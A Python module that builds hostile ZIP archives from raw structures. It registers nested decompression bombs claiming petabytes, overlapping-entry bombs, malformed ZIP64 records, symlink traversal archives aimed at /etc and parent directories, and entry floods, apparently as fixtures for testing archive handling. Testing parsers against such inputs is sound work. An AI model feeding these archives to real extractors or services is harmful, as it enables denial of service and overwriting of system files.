"""Archives made to harm whoever looks into them, built small and from scratch."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

_LOCAL = struct.Struct("<4sHHHHHIIIHH")
_ENTRY = struct.Struct("<4sHHHHHHIIIHHHHHII")


def local(name: bytes, packed: bytes, size: int, method: int = 8) -> bytes:
    return (
        _LOCAL.pack(b"PK\x03\x04", 20, 0, method, 0, 0, 0, len(packed), size & 0xFFFFFFFF, len(name), 0) + name + packed
    )


def entry(
    name: bytes,
    packed: int,
    size: int,
    offset: int,
    *,
    method: int = 8,
    mode: int = 0,
    extra: bytes = b"",
    flags: int = 0,
) -> bytes:
    sizes = packed, size & 0xFFFFFFFF
    fields = (0x314, 20, flags, method, 0, 0, 0, *sizes, len(name), len(extra), 0, 0, 0, mode << 16, offset)
    head = _ENTRY.pack(b"PK\x01\x02", *fields)
    return head + name + extra


def end(count: int, length: int, offset: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, length, offset, 0)


def archive(*members: tuple[bytes, bytes, int], mode: int = 0) -> bytes:
    """Members of (name, packed data, claimed size)."""
    body, directory = b"", b""
    for name, packed, size in members:
        directory += entry(name, len(packed), size, len(body), mode=mode)
        body += local(name, packed, size)
    return body + directory + end(len(members), len(directory), len(body))


def packed(data: bytes) -> bytes:
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflate.compress(data) + deflate.flush()


def forty_two() -> bytes:
    """Five levels of sixteen, each leaf claiming 4 GiB: some petabytes in all."""
    inner = archive((b"0.dll", packed(bytes(4 * 1024**2)), 0xFFFFFFFE))
    for level in range(5):
        inner = archive(*((f"lib{level}_{index:x}.zip".encode(), packed(inner), len(inner)) for index in range(16)))
    return inner


def overlapping(count: int = 65_000) -> bytes:
    """Every entry of the directory points to the same data."""
    body = local(b"a", packed(bytes(4 * 1024**2)), 4 * 1024**2)
    directory = b"".join(entry(b"%05d" % index, len(body) - 31, 4 * 1024**2, 0) for index in range(count))
    return body + directory + end(count, len(directory), len(body))


def bad_zip64(kind: str) -> bytes:
    body = local(b"a.txt", b"hello", 5, method=0)
    directory = entry(b"a.txt", 5, 5, 0, method=0)
    if kind == "extra cut off":
        directory = entry(b"a.txt", 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, extra=struct.pack("<HH", 1, 24) + b"\1\2\3")
        return body + directory + end(1, len(directory), len(body))
    start, count, length = len(body), 1, len(directory)
    if kind == "huge sizes":
        count, length, start = 2**63, 2**64 - 1, 2**64 - 1
    record = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, length, start)
    place = len(body) + len(directory)
    if kind == "locator outside":
        record, place = b"", 2**63
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, place, 1)
    return body + directory + record + locator + end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)


def links(target: bytes) -> bytes:
    """A symbolic link, and a file that would be written through it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        link = zipfile.ZipInfo("way")
        link.external_attr = 0o120777 << 16
        made.writestr(link, target)
        made.writestr("way/passwd", b"x")
    return out.getvalue()


def crowded(count: int = 300_000) -> bytes:
    """More entries than anyone reads, with long names."""
    body = local(b"a", b"", 0, method=0)
    directory = b"".join(entry(b"%06d" % index + b"n" * 80, 0, 0, 0, method=0) for index in range(count))
    return body + directory + end(count, len(directory), len(body))


def quine_like() -> bytes:
    """An archive that holds itself as far down as anyone cares to look."""
    inner = archive((b"r.txt", packed(b"the end"), 7))
    for _ in range(60):
        inner = archive((b"r.zip", packed(inner), len(inner)))
    return inner


def many_nested() -> bytes:
    """Very many small archives side by side."""
    inner = archive((b"a.txt", packed(b"x"), 1))
    return archive(*((b"%05d.zip" % index, packed(inner), len(inner)) for index in range(5000)))


MAKERS: dict[str, Callable[[], bytes]] = {
    "forty-two": forty_two,
    "overlapping": overlapping,
    "zip64 huge sizes": partial(bad_zip64, "huge sizes"),
    "zip64 locator outside": partial(bad_zip64, "locator outside"),
    "zip64 extra cut off": partial(bad_zip64, "extra cut off"),
    "link to a root": partial(links, b"/etc"),
    "link upwards": partial(links, b"../../.."),
    "crowded": crowded,
    "holds itself": quine_like,
    "many nested": many_nested,
    "claims petabytes": partial(archive, (b"a.bin", packed(bytes(1024**2)), 0xFFFFFFFE), (b"b", b"", 0xFFFFFFFE)),
}
